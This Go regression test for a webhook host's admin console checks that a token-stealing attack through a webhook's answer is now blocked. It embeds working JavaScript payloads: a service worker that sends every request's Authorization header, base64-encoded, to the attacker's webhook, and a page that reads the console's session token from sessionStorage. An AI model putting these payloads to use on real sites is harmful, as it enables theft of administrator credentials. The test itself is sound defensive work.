package console_test

// revconsole: a webhook's answer, served on the console's origin (the
// default: no --admin-listen), registered a service worker with scope "/"
// (Service-Worker-Allowed: / was passed through) that read the admin
// token from every console API call, and a webhook's page opened in the
// console's tab read the console's session from sessionStorage. The
// server now refuses every request for a worker's script, drops
// Service-Worker-Allowed from answers, and sandboxes every answer (an
// opaque origin).

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"github.com/hookhost/hookhost/host"
	"github.com/hookhost/hookhost/host/api/apitest"
)

// swScript is a service worker that sends the Authorization header of
// every request it sees to its own webhook, base64-encoded.
const swScript = `self.addEventListener('install',e=>self.skipWaiting());self.addEventListener('activate',e=>e.waitUntil(self.clients.claim()));self.addEventListener('fetch',e=>{const a=e.request.headers.get('Authorization');if(a){fetch(self.location.pathname+'?loot='+encodeURIComponent(btoa(a)))}});`

// swPage reads the console's session (window.stolen: the token, or
// "denied") and registers its webhook's ?sw=1 answer as a service worker
// with scope "/" (document.title: "registered" or "failed <why>").
const swPage = `<!doctype html><title>thanks</title><script>try{window.stolen=String(sessionStorage.getItem('hookhost.adminToken'))}catch(e){window.stolen='denied'}try{navigator.serviceWorker.register(location.pathname+'?sw=1',{scope:'/'}).then(()=>navigator.serviceWorker.ready).then(()=>{document.title='registered'},e=>{document.title='failed '+e})}catch(e){document.title='failed '+e}</script>`

// swPackage is a third party's package: a webhook whose answer is swPage,
// swScript with ?sw=1, and swPage under its own, weaker sandbox policy
// (allow-same-origin) with ?own=1.
func swPackage() string {
	script := "start:\n  decision:\n    outcome/sw:\n      if@bool: {% if request_params.sw %}yes{% endif %}\n      then:\n        return:\n          status_code: 200\n          headers:\n            Content-Type: text/javascript\n            Service-Worker-Allowed: /\n          body@raw: " + swScript +
		"\n    outcome/own:\n      if@bool: {% if request_params.own %}yes{% endif %}\n      then:\n        return:\n          status_code: 200\n          headers:\n            Content-Type: text/html\n            Content-Security-Policy: sandbox allow-scripts allow-same-origin\n          body@raw: " + swPage +
		"\n    outcome/page:\n      then:\n        return:\n          status_code: 200\n          headers:\n            Content-Type: text/html\n          body@raw: " + swPage + "\n"
	pkg := map[string]any{
		"package": map[string]any{"name": "Thanks page", "revision": 1},
		"records": []any{
			map[string]any{"uid": "a", "_context": "automation", "name": "thanks.page", "extension_id": "cerb.trigger.webhook.respond", "script": script, "policy_kata": ""},
			map[string]any{"uid": "w", "_context": "webhook_listener", "name": "Thanks", "automations_kata": "automation/a:\n  uri: cerb:automation:{{{uid.a}}}\n"},
		},
	}
	b, _ := json.Marshal(pkg)
	return string(b)
}

// TestRevconsoleServiceWorkerStealsToken: a webhook's answer served on the
// console's origin can neither register a service worker (from its page,
// under its own weaker policy too, or from the console's page itself) nor
// read the console's session in the console's tab, and no webhook record
// ever holds the admin token.
func TestRevconsoleServiceWorkerStealsToken(t *testing.T) {
	exe := chromium(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	cfg := host.DefaultConfig()
	cfg.DataDir, cfg.AdminToken, cfg.InProcess = t.TempDir(), adminToken, true
	cfg.Logger = slog.New(slog.NewTextHandler(io.Discard, nil))
	cfg.Listen = ln.Addr().String() // no AdminListen: the default deployment
	cfg.PublicURL = "http://" + cfg.Listen
	ctx, cancel := context.WithCancel(context.Background())
	srv, err := host.New(ctx, cfg)
	require.NoError(t, err)
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ctx, ln, nil) }()
	t.Cleanup(func() { cancel(); <-done })
	base := "http://" + cfg.Listen
	k, err := apitest.Load()
	require.NoError(t, err)
	s := &server{public: base, admin: base, contract: k}

	// 1. A package (third party) makes a webhook whose answer is an HTML page.
	req, _ := http.NewRequest(http.MethodPost, base+"/api/v1/packages/import", strings.NewReader(swPackage()))
	req.Header.Set("Authorization", "Bearer "+adminToken)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	require.Equal(t, 201, resp.StatusCode, "%s", b)
	var res struct {
		Webhooks []struct{ ID, URL string }
	}
	require.NoError(t, json.Unmarshal(b, &res))
	require.Len(t, res.Webhooks, 1)
	hookURL, hookID := res.Webhooks[0].URL, res.Webhooks[0].ID

	p := openBrowser(t, exe)
	registers := func(t *testing.T, url string) {
		t.Helper()
		p.do(t, "open "+url, chromedp.Navigate(url))
		p.until(t, "the page's registration settled", "document.title === 'registered' || document.title.startsWith('failed')")
		title := eval[string](t, p, "document.title")
		t.Logf("%s: %s", url, title)
		require.NotEqual(t, "registered", title, "a webhook's page registered a service worker")
		require.Equal(t, "denied", eval[string](t, p, "window.stolen"), "a webhook's page read the origin's sessionStorage")
	}
	// 2. The operator opens the webhook's URL once (to try it); the
	// automation's own sandbox policy, weaker, does not lift the server's.
	registers(t, hookURL)
	registers(t, hookURL+"?own=1")

	// 3. The operator signs in to the console (same origin).
	p.do(t, "open the console", chromedp.Navigate(base+"/console/"), chromedp.WaitVisible(chromedp.CSS("#token")))
	p.fill(t, "#token", adminToken)
	eval[bool](t, p, "(document.getElementById('signin-form').requestSubmit(), true)")
	p.until(t, "signed in", "!document.getElementById('nav').hidden")

	// 4. The webhook's page opened in the console's tab (whose session
	// holds the token) reads nothing.
	require.Equal(t, adminToken, eval[string](t, p, "sessionStorage.getItem('hookhost.adminToken')"))
	registers(t, hookURL)

	// 5. Even a script running in the console's page (not sandboxed) cannot
	// register the webhook's answer as a worker: its script is refused, 403
	// with Clear-Site-Data: "storage" (which unregisters a worker left from
	// before the refusal), on which Chromium aborts the registration.
	p.do(t, "back to the console", chromedp.Navigate(base+"/console/"), chromedp.WaitReady("body"))
	why := eval[string](t, p, "navigator.serviceWorker.register("+jsString(hookURL+"?sw=1")+",{scope:'/'}).then(()=>'registered',e=>String(e))")
	t.Logf("console page: %s", why)
	require.Regexp(t, `403|aborted`, why, "refused, not a scope error (the dropped Service-Worker-Allowed)")
	require.Equal(t, 0, eval[int](t, p, "navigator.serviceWorker.getRegistrations().then(r=>r.length)"))
	require.Equal(t, "null", eval[string](t, p, "String(navigator.serviceWorker.controller)"))

	// 6. No record of the webhook holds the admin token.
	var l struct {
		Runs []struct{ ID string }
	}
	s.api(t, http.MethodGet, "/requests?webhook="+hookID, nil, &l, http.StatusOK)
	require.NotEmpty(t, l.Runs)
	loot := base64.StdEncoding.EncodeToString([]byte("Bearer " + adminToken))
	for _, r := range l.Runs {
		var rec map[string]any
		s.api(t, http.MethodGet, "/requests/"+r.ID, nil, &rec, http.StatusOK)
		rb, _ := json.Marshal(rec)
		// base64: the record's redaction hides the token itself, not
		// what an attacker's script made of it.
		require.NotContains(t, string(rb), loot, "the admin token reached the webhook")
		require.NotContains(t, string(rb), adminToken)
	}
}

func jsString(s string) string { b, _ := json.Marshal(s); return string(b) }
